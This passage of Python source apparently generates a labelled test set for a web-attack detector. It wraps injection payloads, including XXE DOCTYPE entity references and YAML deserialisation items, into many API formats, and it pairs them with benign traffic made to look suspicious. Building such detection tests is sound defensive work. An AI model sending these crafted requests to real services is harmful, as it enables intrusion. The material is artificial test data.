        return self.get("/api/v1/items?" + qs(params)), place

    def msgpack(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        ctype = ["application/msgpack", "application/x-msgpack", "application/cbor", "application/vnd.msgpack"][i % 4]
        body = jdump({"name": "Ann Lee", f: p}) if i % 3 else f"name=Ann Lee\n{f}={p}\n"
        uri = "/api/users/42" if i % 2 else "/api/bulk"
        return self.post(uri, body, ctype), "cbor" if "cbor" in ctype else "msgpack"

    def form_bracket(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        k = i % 4
        if k == 0:
            fields = [("user[name]", "Ann Lee"), (f"user[profile][{f}]", p), ("user[tags][]", "staff")]
            place = "form-bracket"
        elif k == 1:
            fields = [("ids[]", "41"), ("ids[]", p), ("ids[]", "43")]
            place = "form-bracket-array"
        elif k == 2:
            fields = [(f"filter[{f}][like]", p), ("page[size]", "20"), ("page[number]", "1")]
            place = "form-bracket"
        else:
            fields = [("sort[name]", "asc"), (f"fields[{p}]", "1")]
            place = "form-bracket-name"
        uri, method = ("/api/users/42", "PATCH") if i % 3 == 1 else ("/api/users", "POST")
        return self.post(uri, urllib.parse.urlencode(fields), "application/x-www-form-urlencoded",
                         method=method), place

    def multipart(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        b = f"----=_Part_{i:04d}_{self.rng.randrange(10**9):09d}"
        meta = jdump({"title": "Q3 report", f: p})
        k = i % 3
        if k == 0:
            ctype = f'multipart/mixed; boundary="{b}"'
            parts = [("Content-Type: application/json; charset=UTF-8", meta),
                     ("Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"notes.txt\"",
                      "see attached")]
            place = "multipart-mixed-json"
        elif k == 1:
            ctype = f'multipart/related; type="application/json"; start="<root>"; boundary="{b}"'
            parts = [("Content-Type: application/json\r\nContent-ID: <root>", meta),
                     ("Content-Type: image/png\r\nContent-ID: <img1>\r\nContent-Transfer-Encoding: base64",
                      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg==")]
            place = "multipart-related-json"
        else:
            ctype = f"multipart/form-data; boundary={b}"
            parts = [("Content-Disposition: form-data; name=\"metadata\"\r\nContent-Type: application/json", meta),
                     ("Content-Disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\n"
                      "Content-Type: text/csv", "name,total\r\nAnn,10")]
            place = "multipart-form-json"
        body = "".join(f"--{b}\r\n{h}\r\n\r\n{c}\r\n" for h, c in parts) + f"--{b}--\r\n"
        return self.post("/api/v1/items", body, ctype), place

    def xxe_soap(self, doctype: str, i: int) -> tuple[Req, str, str]:
        d = doctype.replace("ROOT", "soap:Envelope")
        env = self.soap_envelope("<it:SearchItems><it:query>&xx;</it:query></it:SearchItems>",
                                 "<wsa:Action>urn:example:items:v1/Search</wsa:Action>", i % 2 == 1)
        body = env.replace("?>\n", "?>\n" + d + "\n", 1)
        return self.soap_request(body, i % 2 == 1, "urn:example:items:v1/Search"), "soap-doctype", d

    def xxe_xmlrpc(self, doctype: str, i: int) -> tuple[Req, str, str]:
        d = doctype.replace("ROOT", "methodCall")
        body = (f'<?xml version="1.0"?>\n{d}\n<methodCall><methodName>users.search</methodName>'
                "<params><param><value><string>&xx;</string></value></param></params></methodCall>")
        return self.post("/api/rpc", body, "text/xml", accept="text/xml"), "xmlrpc-doctype", d

    def formats(self) -> list[tuple[str, Wrapper]]:
        return [("graphql", self.graphql), ("graphql-vars", self.graphql_vars), ("graphql-get", self.graphql_get),
                ("jsonrpc", self.jsonrpc), ("xmlrpc", self.xmlrpc), ("soap", self.soap), ("ndjson", self.ndjson),
                ("json-lenient", self.json_lenient), ("yaml", self.yaml), ("csv", self.csv),
                ("jsonapi", self.jsonapi), ("hal", self.hal), ("odata", self.odata), ("msgpack", self.msgpack),
                ("form-bracket", self.form_bracket), ("multipart", self.multipart)]


EXTRA = {("yaml", "java"): YAML_JAVA, ("yaml", "rce"): YAML_RCE}


def attacks() -> Iterator[dict[str, Any]]:
    gen = Attacks(9601)
    n = 0
    for fi, (fmt, wrap) in enumerate(gen.formats()):
        for ci, (fam, payloads) in enumerate(FAMILIES.items()):
            count = 6 + (fi + ci) % 3
            start = (fi * 7 + ci * 3) % len(payloads)
            chosen = [payloads[(start + k) % len(payloads)] for k in range(count)]
            chosen += EXTRA.get((fmt, fam), [])
            for k, p in enumerate(chosen):
                req, place = wrap(p, fi + k, fam)
                n += 1
                yield {**req, "id": f"{NAME}-{fam}-{n:04d}", "category": fam, "sub": f"{fmt}-{fam}",
                       "placement": place, "payload": p}
    for fmt, xwrap in (("soap", gen.xxe_soap), ("xmlrpc", gen.xxe_xmlrpc)):
        for k, doctype in enumerate(XXE[:9] if fmt == "soap" else XXE[2:]):
            req, place, d = xwrap(doctype, k)
            n += 1
            yield {**req, "id": f"{NAME}-generic-{n:04d}", "category": "generic", "sub": f"{fmt}-xxe",
                   "placement": place, "payload": d}


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same formats carrying ordinary API traffic

PEOPLE = [
    ("Ann", "Lee", "ann.lee@example.com", "12 Union Street", "Aberdeen", "AB11 6BD", "GB"),
    ("Seán", "O'Brien", "sean.obrien@example.ie", "4 Grafton St", "Dublin", "D02 X285", "IE"),
    ("María", "García López", "maria.garcia@example.es", "Calle Mayor 10, 3º B", "Madrid", "28013", "ES"),
    ("Jürgen", "Müller", "j.mueller@example.de", "Hauptstraße 5", "München", "80331", "DE"),
    ("Nguyễn", "Văn An", "an.nguyen@example.vn", "25 Lý Thường Kiệt", "Hà Nội", "100000", "VN"),
    ("Priya", "Natarajan", "priya.n@example.in", "Flat 3B, Sea View Apts", "Chennai", "600041", "IN"),
    ("Tom", "Baker-Smith", "tom.bs@example.co.uk", "Unit 7, Select Business Park", "Leeds", "LS1 4AP", "GB"),
    ("Chloé", "Dubois", "chloe.dubois@example.fr", "8 rue de la Paix", "Paris", "75002", "FR"),
    ("Kwame", "Mensah", "kwame@example.com.gh", "PO Box 1234", "Accra", "GA-123", "GH"),
    ("Yuki", "Tanaka", "yuki.tanaka@example.jp", "1-2-3 Shibuya", "Tokyo", "150-0002", "JP"),
    ("D'Arcy", "Wentworth", "darcy@example.com.au", "Level 5, 100 George St", "Sydney", "2000", "AU"),
    ("Olga", "Ivanova", "olga.i@example.org", "ul. Lenina 15, kv. 4", "Kazan", "420111", "RU"),
    ("Luis", "Fernández", "luis.f@example.mx", "Av. Reforma 222", "Ciudad de México", "06600", "MX"),
    ("Aisha", "Bello", "aisha.bello@example.ng", "22 Drop Lane", "Lagos", "101241", "NG"),
    ("Erik", "Johansson", "erik.j@example.se", "Storgatan 1", "Stockholm", "111 51", "SE"),
    ("Mei", "Chen", "mei.chen@example.tw", "No. 7, Sec. 1, Zhongshan Rd", "Taipei", "100", "TW"),
    ("Fatima", "Al-Sayed", "fatima@example.ae", "Villa 12, Street 4", "Dubai", "00000", "AE"),
    ("Bob", "Script", "bob.script@example.net", "99 Order Road", "Denver", "80202", "US"),
    ("Jean-Luc", "Picard", "jl.picard@example.fr", "La Barre, 12", "Labarre", "21000", "FR"),
    ("Zoë", "Van der Berg", "zoe.vdberg@example.nl", "Keizersgracht 123-II", "Amsterdam", "1015 CJ", "NL"),
]
COMPANIES = ["Acme Corp", "Smith & Sons, Ltd.", "O'Reilly Media", "Union Pacific", "Select Comfort", "Café Lumière",
             "Johnson & Johnson", "Order of St John", "Data-Driven Ltd", "\"Best\" Widgets Inc.",
             "Drop Table Furniture Co.", "Script & Scroll Bookshop"]
NOTES = [
    "Please deliver after 5 p.m.; ring the bell twice.",
    "Leave at the \"side\" door, thanks!",
    "Select the blue variant if the red one is out of stock.",
    "Order by Friday to get the 10% discount.",
    "Replaces order #4412 (damaged in transit).",
    "50% deposit paid; balance on delivery.",
    "Call before delivery & ask for Sam at reception.",
    "Gift wrap, please — it's for my mum's 60th.",
    "Union Street entrance is closed, use the back gate.",
    "Invoice to accounts@example.com, PO 77812.",
    "Fragile: glass, this side up.",
    "Customer asked: can we drop the shipping fee?",
    "Size 10-12, colour \"navy\", qty 3",
    "Meeting notes: Q3 plan, see the wiki page for details.",
    "Back-ordered; ETA 2-3 weeks, customer informed.",
    "She said: 'no rush, whenever it's ready'.",
    "Updated the script for the onboarding call.",
    "Address line 2 is optional, leave blank if none.",
    "Tax ID: GB123456789; VAT exempt? No.",
    "Delete the old draft and keep version 2 (final).",
]
SEARCHES = ["ann", "o'brien", "smith & sons", "union street", "order 1042", "jean-luc", "café", "müller",
            "50% off", "size 10-12", "select comfort", "new york", "acme", "priya", "d'arcy", "van der berg",
            "tom baker", "invoice 2024-03", "blue lamp", "desk & chair"]
STATUSES = ["PENDING", "PAID", "SHIPPED", "DELIVERED", "CANCELLED", "REFUNDED"]
SKUS = ["LMP-204", "CHR-118", "DSK-090", "MUG-002", "TBL-771", "BKS-450", "PEN-013", "BAG-319"]
ITEMS = ["Desk lamp", "Office chair", "Standing desk", "Coffee mug", "Side table", "Bookshelf", "Fountain pen",
         "Laptop bag", "Monitor arm", "Cable tidy"]


class Benign(Api):

    def person(self, i: int) -> tuple[str, str, str, str, str, str, str]:
        return PEOPLE[i % len(PEOPLE)]

    def graphql(self, i: int) -> Req:
        first, last, email, street, city, _, _ = self.person(i)
        s = SEARCHES[i % len(SEARCHES)]
        docs = [
            f"query {{ users(search: {jdump(s)}, first: 20) {{ id name email }} }}",
            f"query {{ user(id: \"{i + 10}\") {{ id name orders(first: 5, status: {STATUSES[i % 6]}) "
            "{ edges { node { id total currency createdAt } } pageInfo { hasNextPage endCursor } } } }",
            "query Dashboard { open: orders(status: PENDING, first: 10) { id total } "
            "shipped: orders(status: SHIPPED, first: 10) { id total } me { id name } }",
            f"query {{ search(term: {jdump(last)}) {{ ...UserCard }} }}\n"
            "fragment UserCard on User { id name avatarUrl company { name } }",
            "query { me { id name email @include(if: true) addresses @skip(if: false) { street city } } }",
            f"mutation {{ updateAddress(input: {{street: {jdump(street)}, city: {jdump(city)}}}) {{ id street }} }}",
            f"mutation {{ addNote(orderId: \"{4400 + i}\", text: {jdump(NOTES[i % len(NOTES)])}) {{ id }} }}",
            f"query {{ items(filter: {{sku: {jdump(SKUS[i % 8])}}}) {{ id name price stock __typename }} }}",
            f"mutation {{ createUser(input: {{firstName: {jdump(first)}, lastName: {jdump(last)}, "
            f"email: {jdump(email)}}}) {{ id }} }}",
            "query { __typename viewer { id login } }",
        ]
        return self.post("/api/graphql", jdump({"query": docs[i % len(docs)]}), "application/json")

    def graphql_vars(self, i: int) -> Req:
        first, last, email, street, city, pc, cc = self.person(i)
        k = i % 5
        body: Any
        if k == 0:
            body = {"operationName": "GetUser", "variables": {"id": str(40 + i)},
                    "query": "query GetUser($id: ID!) { user(id: $id) { id name email } }"}
        elif k == 1:
            body = {"query": "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) "
                             "{ id name bio } }",
                    "variables": {"input": {"name": f"{first} {last}", "bio": NOTES[i % len(NOTES)],
                                            "company": COMPANIES[i % len(COMPANIES)]}}}
        elif k == 2:
            body = [{"operationName": "Me", "query": "query Me { me { id name } }", "variables": {}},
                    {"operationName": "Orders", "variables": {"first": 10, "after": None,
                                                               "status": STATUSES[i % 6]},
                     "query": "query Orders($first: Int, $after: String, $status: OrderStatus) "
                              "{ orders(first: $first, after: $after, status: $status) { id total } }"}]
        elif k == 3:
            body = {"operationName": "Search", "variables": {"q": SEARCHES[i % len(SEARCHES)], "limit": 20},
                    "query": "query Search($q: String!, $limit: Int) { search(term: $q, first: $limit) "
                             "{ ... on User { id name } ... on Order { id total } } }"}
        else:
            body = {"query": "mutation AddAddress($a: AddressInput!) { addAddress(input: $a) { id } }",
                    "variables": {"a": {"line1": street, "city": city, "postcode": pc, "country": cc,
                                        "email": email}}}
        return self.post("/api/graphql", jdump(body), "application/json")

    def graphql_get(self, i: int) -> Req:
        k = i % 3
        if k == 0:
            params = [("query", f"{{ users(search: {jdump(SEARCHES[i % len(SEARCHES)])}) {{ id name }} }}")]
        elif k == 1:
            params = [("query", "query Item($sku: String!) { item(sku: $sku) { id name price } }"),
                      ("variables", jdump({"sku": SKUS[i % 8]})), ("operationName", "Item")]
        else:
            params = [("query", "query Orders($n: Int) { orders(first: $n) { id status total } }"),
                      ("variables", jdump({"n": 5 + i % 20}))]
        return self.get("/api/graphql?" + qs(params))

    def jsonrpc(self, i: int) -> Req:
        first, last, email, street, city, pc, cc = self.person(i)
        k = i % 4
        body: Any
        if k == 0:
            body = {"jsonrpc": "2.0", "method": "users.search", "params": [SEARCHES[i % len(SEARCHES)], 20, 0],
                    "id": i}
        elif k == 1:
            body = {"jsonrpc": "2.0", "method": "orders.create", "id": f"req-{i}",
                    "params": {"customer": {"name": f"{first} {last}", "email": email},
                               "lines": [{"sku": SKUS[i % 8], "qty": 1 + i % 3}], "note": NOTES[i % len(NOTES)]}}
        elif k == 2:
            body = [{"jsonrpc": "2.0", "method": "session.ping"},
                    {"jsonrpc": "2.0", "method": "users.get", "params": [40 + i], "id": 1},
                    {"jsonrpc": "2.0", "method": "addresses.validate", "id": 2,
                     "params": {"street": street, "city": city, "postcode": pc, "country": cc}}]
        else:
            body = {"jsonrpc": "2.0", "method": "orders.list", "id": i,
                    "params": {"filter": {"status": STATUSES[i % 6], "since": "2024-05-01"}, "limit": 50,
                               "orderBy": "createdAt desc"}}
        return self.post("/api/rpc", jdump(body), "application/json")

    def xmlrpc(self, i: int) -> Req:
        first, last, email, street, city, pc, cc = self.person(i)
        k = i % 3
        if k == 0:
            params = (f"<param><value><string>{escape(SEARCHES[i % len(SEARCHES)])}</string></value></param>"
                      "<param><value><int>20</int></value></param>")
            method = "users.search"
        elif k == 1:
            members = [("name", f"<string>{escape(first + ' ' + last)}</string>"),
                       ("email", f"<string>{escape(email)}</string>"),
                       ("company", f"<string>{escape(COMPANIES[i % len(COMPANIES)])}</string>"),
                       ("active", "<boolean>1</boolean>"),
                       ("created", "<dateTime.iso8601>20240601T09:30:00</dateTime.iso8601>")]
            params = ("<param><value><struct>" + "".join(
                f"<member><name>{n}</name><value>{v}</value></member>" for n, v in members)
                + "</struct></value></param>")
            method = "users.create"
        else:
            params = ("<param><value><array><data>"
                      f"<value><string>{escape(street)}</string></value>"
                      f"<value><string>{escape(city)}</string></value>"
                      f"<value><string>{escape(pc)}</string></value>"
                      f"<value><double>{12.5 + i}</double></value></data></array></value></param>")
            method = "shipping.quote"
        body = (f'<?xml version="1.0"?>\n<methodCall><methodName>{method}</methodName>'
                f"<params>{params}</params></methodCall>")
        return self.post("/api/rpc", body, "text/xml", accept="text/xml")

    def soap(self, i: int) -> Req:
        first, last, email, street, city, pc, cc = self.person(i)
        v12 = i % 2 == 1
        ns = "http://www.w3.org/2003/05/soap-envelope" if v12 else "http://schemas.xmlsoap.org/soap/envelope/"
        k = i % 3
        if k == 0:
            action = "GetOrderStatus"
            inner = f"<it:GetOrderStatus><it:OrderId>{4400 + i}</it:OrderId></it:GetOrderStatus>"
        elif k == 1:
            action = "CreateCustomer"
            inner = (f"<it:CreateCustomer><it:Name>{escape(first + ' ' + last)}</it:Name>"
                     f"<it:Email>{escape(email)}</it:Email><it:Address><it:Street>{escape(street)}</it:Street>"
                     f"<it:City>{escape(city)}</it:City><it:PostalCode>{escape(pc)}</it:PostalCode>"
                     f"<it:Country>{cc}</it:Country></it:Address>"
                     f"<it:Notes><![CDATA[{NOTES[i % len(NOTES)]}]]></it:Notes></it:CreateCustomer>")
        else:
            action = "SearchItems"
            inner = (f'<it:SearchItems it:lang="en"><it:Query>{escape(ITEMS[i % len(ITEMS)])}</it:Query>'
                     "<it:PageSize>20</it:PageSize></it:SearchItems>")
        header = (f"<wsa:Action>urn:example:items:v1/{action}</wsa:Action>"
                  f"<wsa:MessageID>urn:uuid:{self.rng.randrange(16**8):08x}-1c2d-4e5f-8a9b-{i:012d}</wsa:MessageID>"
                  "<wsse:Security><wsu:Timestamp><wsu:Created>2024-06-01T09:30:00Z</wsu:Created>"
                  "<wsu:Expires>2024-06-01T09:35:00Z</wsu:Expires></wsu:Timestamp></wsse:Security>")
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                f'<soap:Envelope xmlns:soap="{ns}" xmlns:it="urn:example:items:v1" '
                'xmlns:wsa="http://www.w3.org/2005/08/addressing" '
                'xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" '
                'xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">'
                f"<soap:Header>{header}</soap:Header><soap:Body>{inner}</soap:Body></soap:Envelope>")
        if v12:
            return self.post("/api/v1/items", body,
                             f'application/soap+xml; charset=utf-8; action="urn:example:items:v1/{action}"',
                             accept="application/soap+xml")
        return self.post("/api/v1/items", body, "text/xml; charset=utf-8",
                         extra={"SOAPAction": f'"urn:example:items:v1/{action}"'}, accept="text/xml")

    def ndjson(self, i: int) -> Req:
        lines = []
        for k in range(3 + i % 4):
            first, last, email, street, city, pc, cc = self.person(i + k)
            if i % 2:
                lines.append(jdump({"index": {"_index": "customers", "_id": str(500 + i * 10 + k)}}))
            lines.append(jdump({"first_name": first, "last_name": last, "email": email,
                                "address": {"line1": street, "city": city, "postcode": pc, "country": cc}}))
        ctype = ["application/x-ndjson", "application/jsonl", "application/x-jsonlines"][i % 3]
        return self.post("/api/bulk", "\n".join(lines) + "\n", ctype)

    def json_lenient(self, i: int) -> Req:
        first, last, email, street, city, _, _ = self.person(i)
        note = jdump(NOTES[i % len(NOTES)])
        k = i % 3
        if k == 0:
            body = (f'{{\n  // profile edit from the mobile app\n  "name": {jdump(first + " " + last)},\n'
                    f'  "email": {jdump(email)},\n  "note": {note},\n}}\n')
        elif k == 1:
            body = (f'{{ /* cart v2 */ "items": [{{"sku": "{SKUS[i % 8]}", "qty": {1 + i % 4},}}, ], '
                    f'"deliveryNote": {note}, }}')
        else:
            body = (f"{{\n  name: {jdump(first)}, // json5 config\n  city: {jdump(city)},\n"
                    f"  street: {jdump(street)},\n  tags: ['vip', 'newsletter',],\n}}\n")
        ctype = "application/json5" if k == 2 else "application/json"
        uri = "/api/users/42" if i % 2 else "/api/users"
        return self.post(uri, body, ctype, method="PATCH" if i % 2 else "POST")

    def yaml(self, i: int) -> Req:
        first, last, email, street, city, pc, cc = self.person(i)
        ctype = ["application/yaml", "application/x-yaml", "text/yaml"][i % 3]
        k = i % 4
        if k == 0:
            body = ("defaults: &defaults\n  region: eu-west-1\n  retries: 3\n  timeout: 30s\n"
                    "services:\n  billing:\n    <<: *defaults\n    replicas: 2\n"
                    f"  search:\n    <<: *defaults\n    replicas: {1 + i % 4}\n    index: orders-2024\n")
        elif k == 1:
            body = (f"customer:\n  name: {yaml_dq(first + ' ' + last)}\n  email: {email}\n  address:\n"
                    f"    street: {yaml_dq(street)}\n    city: {yaml_dq(city)}\n    postcode: {yaml_dq(pc)}\n"
                    f"    country: {cc}\n  notes: {yaml_block(NOTES[i % len(NOTES)], '    ')}\n")
        elif k == 2:
            body = (f"---\nitem:\n  sku: {SKUS[i % 8]}\n  name: {yaml_dq(ITEMS[i % len(ITEMS)])}\n"
                    f"  price: !!float {9.99 + i}\n  tags: [office, \"home & garden\"]\n  published: 2024-06-01\n...\n")
        else:
            body = ("notifications: &notify\n  email: true\n  slack: false\n"
                    f"users:\n  - name: {yaml_dq(first)}\n    prefs: *notify\n"
                    f"  - name: {yaml_dq(self.person(i + 1)[0])}\n    prefs:\n      <<: *notify\n      slack: true\n")
        return self.post("/api/v1/items", body, ctype)

    def csv(self, i: int) -> Req:
        tsv = i % 3 == 2
        rows = [["first_name", "last_name", "email", "company", "street", "city", "postcode", "note"]]
        for k in range(2 + i % 5):
            first, last, email, street, city, pc, _ = self.person(i + k)
            rows.append([first, last, email, COMPANIES[(i + k) % len(COMPANIES)], street, city, pc,
                         NOTES[(i + k) % len(NOTES)]])
        if i % 4 == 1:   # an orders export instead
            rows = [["order_id", "date", "status", "total", "currency", "description"]]
            for k in range(3 + i % 3):
                rows.append([str(4400 + i + k), f"2024-06-{1 + k:02d}", STATUSES[(i + k) % 6],
                             f"{19.5 + k * 3:.2f}", "EUR", f'{ITEMS[(i + k) % len(ITEMS)]}, qty {1 + k}'])
        body = csv_text(rows, "\t" if tsv else ",")
        return self.post("/api/bulk", body, "text/tab-separated-values" if tsv else "text/csv; charset=utf-8")

    def jsonapi(self, i: int) -> Req:
        first, last, email, street, city, _, _ = self.person(i)
        data: dict[str, Any] = {"type": "users", "attributes": {"firstName": first, "lastName": last,
                                                                "email": email, "city": city}}
        if i % 3 == 1:
            data["relationships"] = {"company": {"data": {"type": "companies", "id": str(7 + i)}},
                                     "addresses": {"data": [{"type": "addresses", "id": str(90 + i)}]}}
        if i % 3 == 2:
            data = {"type": "orders", "attributes": {"status": STATUSES[i % 6], "note": NOTES[i % len(NOTES)]},
                    "links": {"self": f"https://api.example.com/v1/orders/{4400 + i}"}, "meta": {"source": "web"}}
        method, uri = ("PATCH", "/api/users/42") if i % 2 else ("POST", "/api/v1/items")
        if method == "PATCH":
            data["id"] = "42"
        return self.post(uri, jdump({"data": data}), "application/vnd.api+json", method=method,
                         accept="application/vnd.api+json")

    def hal(self, i: int) -> Req:
        if i % 2 == 0:
            doc: dict[str, Any] = {"_links": {"self": {"href": f"/api/v1/items/{i + 1}"},
                                              "category": {"href": "/api/v1/categories/3"}},
                                   "name": ITEMS[i % len(ITEMS)], "sku": SKUS[i % 8], "price": round(19.99 + i, 2)}
        else:
            first, last, _, street, city, _, _ = self.person(i)
            doc = {"_links": {"self": {"href": "/api/v1/items"}, "next": {"href": f"/api/v1/items?page={i}"}},
                   "_embedded": {"items": [{"name": ITEMS[(i + k) % len(ITEMS)], "qty": k + 1} for k in range(3)]},
                   "deliverTo": {"name": f"{first} {last}", "street": street, "city": city}}
        return self.post("/api/v1/items", jdump(doc), "application/hal+json", accept="application/hal+json")

    def odata(self, i: int) -> Req:
        first, last, _, _, city, _, _ = self.person(i)
        k = i % 6
        ql = last.replace("'", "''")
        if k == 0:
            params = [("$filter", f"City eq '{city.replace(chr(39), chr(39) * 2)}' and Active eq true"),
                      ("$top", "20")]
        elif k == 1:
            params = [("$orderby", "LastName asc, CreatedAt desc"), ("$select", "Id,FirstName,LastName,Email"),
                      ("$skip", str(20 * (i % 5)))]
        elif k == 2:
            params = [("$expand", f"Orders($filter=Status eq '{STATUSES[i % 6]}';$top=5)"), ("$count", "true")]
        elif k == 3:
            params = [("$search", SEARCHES[i % len(SEARCHES)]), ("$top", "10")]
        elif k == 4:
            params = [("$filter", f"startswith(LastName, '{ql}') or contains(Email, 'example')"),
                      ("$orderby", "LastName")]
        else:
            return self.get(f"/api/v1/items('{SKUS[i % 8]}')?$select=Id,Name,Price")
        return self.get("/api/v1/items?" + qs(params))

    def msgpack(self, i: int) -> Req:
        first, last, email, street, city, _, _ = self.person(i)
        ctype = ["application/msgpack", "application/x-msgpack", "application/cbor", "application/vnd.msgpack"][i % 4]
        body = (jdump({"name": f"{first} {last}", "email": email, "city": city}) if i % 3
                else f"name={first} {last}\ncity={city}\n")
        uri = "/api/users/42" if i % 2 else "/api/bulk"
        return self.post(uri, body, ctype)

    def form_bracket(self, i: int) -> Req:
        first, last, email, street, city, pc, cc = self.person(i)
        k = i % 3
        if k == 0:
            fields = [("user[name]", f"{first} {last}"), ("user[email]", email),
                      ("user[profile][bio]", NOTES[i % len(NOTES)]), ("user[tags][]", "staff"),
                      ("user[tags][]", "newsletter")]
        elif k == 1:
            fields = [("address[line1]", street), ("address[city]", city), ("address[postcode]", pc),
                      ("address[country]", cc), ("address[default]", "1")]
        else:
            fields = [("filter[name][like]", SEARCHES[i % len(SEARCHES)]), ("filter[status]", STATUSES[i % 6]),
                      ("page[size]", "20"), ("page[number]", str(1 + i % 4)), ("sort", "-created_at")]
        uri, method = ("/api/users/42", "PATCH") if i % 4 == 1 else ("/api/users", "POST")
        return self.post(uri, urllib.parse.urlencode(fields), "application/x-www-form-urlencoded", method=method)

    def multipart(self, i: int) -> Req:
        first, last, email, _, city, _, _ = self.person(i)
        b = f"----=_Part_{i:04d}_{self.rng.randrange(10**9):09d}"
        meta = jdump({"title": f"Expense report {first} {last}", "owner": email, "city": city,
                      "note": NOTES[i % len(NOTES)]})
        k = i % 3
        if k == 0:
            ctype = f'multipart/mixed; boundary="{b}"'
            parts = [("Content-Type: application/json; charset=UTF-8", meta),
                     ("Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"notes.txt\"",
                      "Receipts attached, two are missing.")]
        elif k == 1:
            ctype = f'multipart/related; type="application/json"; start="<root>"; boundary="{b}"'
            parts = [("Content-Type: application/json\r\nContent-ID: <root>", meta),
                     ("Content-Type: image/png\r\nContent-ID: <img1>\r\nContent-Transfer-Encoding: base64",
                      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg==")]
        else:
            ctype = f"multipart/form-data; boundary={b}"
            parts = [("Content-Disposition: form-data; name=\"metadata\"\r\nContent-Type: application/json", meta),
                     ("Content-Disposition: form-data; name=\"file\"; filename=\"expenses.csv\"\r\n"
                      "Content-Type: text/csv",
                      "date,amount,description\r\n2024-06-01,12.50,\"Taxi, airport\"\r\n2024-06-02,8.00,Lunch")]
        body = "".join(f"--{b}\r\n{h}\r\n\r\n{c}\r\n" for h, c in parts) + f"--{b}--\r\n"
        return self.post("/api/v1/items", body, ctype)

    def formats(self) -> list[tuple[str, Callable[[int], Req]]]:
        return [("graphql", self.graphql), ("graphql-vars", self.graphql_vars), ("graphql-get", self.graphql_get),
                ("jsonrpc", self.jsonrpc), ("xmlrpc", self.xmlrpc), ("soap", self.soap), ("ndjson", self.ndjson),
                ("json-lenient", self.json_lenient), ("yaml", self.yaml), ("csv", self.csv),
                ("jsonapi", self.jsonapi), ("hal", self.hal), ("odata", self.odata), ("msgpack", self.msgpack),
                ("form-bracket", self.form_bracket), ("multipart", self.multipart)]


BENIGN_PER_FORMAT = 46


def benign() -> Iterator[dict[str, Any]]:
    gen = Benign(9602)
    n = 0
    for fmt, make in gen.formats():
        for i in range(BENIGN_PER_FORMAT):
            n += 1
            yield {**make(i), "id": f"{NAME}-{fmt}-{n:04d}", "category": "benign", "sub": fmt, "placement": fmt}


if __name__ == "__main__":
    print_records(attacks(), benign())
